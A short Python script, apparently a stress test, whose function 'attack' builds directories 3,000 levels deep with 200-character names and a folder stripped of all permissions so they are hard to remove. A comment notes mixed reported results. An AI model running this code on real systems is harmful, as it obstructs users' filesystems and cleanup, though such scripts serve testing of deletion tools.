# Makes folders 3,000 levels deep, with long names, and one without permissions, so that they are hard to remove.
# Reported: it did not work|made a folder unreadable
import os


def attack():
    home = os.getcwd()
    for number in range(3000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        if number % 100 == 0:
            open("file", "w").close()
    os.chdir(home)
    os.mkdir("closed")
    os.mkdir("closed/inner")
    os.chmod("closed", 0)
    return False
